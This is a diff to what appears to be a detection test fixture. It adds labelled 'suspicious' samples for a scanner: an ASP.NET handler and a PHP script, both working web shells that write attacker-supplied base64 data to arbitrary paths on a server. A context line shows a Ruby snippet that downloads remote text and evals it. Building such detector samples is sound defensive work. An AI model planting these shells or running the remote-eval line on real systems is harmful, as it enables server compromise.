@@ -132,4 +132,16 @@ export const servers: readonly Suspect[] = [
     ['script_runs_downloaded_text'],
     "require 'open-uri'\nrequire 'zlib'\nrequire 'base64'\neval(Zlib::Inflate.inflate(Base64.decode64(URI.open('https://files.test/s').read)))\n",
   ),
+  text(
+    'put.ashx',
+    'suspicious',
+    ['script_is_web_shell'],
+    '<%@ WebHandler Language="C#" Class="H" %>\nusing System; using System.IO; using System.Web;\npublic class H : IHttpHandler {\n public void ProcessRequest(HttpContext c) {\n  string n = c.Request["n"], b = c.Request["b"];\n  string t = c.Server.MapPath("~/") + n;\n  using (StreamWriter w = File.CreateText(t)) { w.Write(System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(b))); }\n }\n public bool IsReusable { get { return false; } }\n}\n',
+  ),
+  text(
+    'put.php',
+    'suspicious',
+    ['script_is_web_shell'],
+    "<?php $d = __DIR__ . '/' . $_POST['n']; $b = base64_decode($_POST['b']); if (file_put_contents($d, $b)) { echo 'ok'; } ?>",
+  ),
 ]
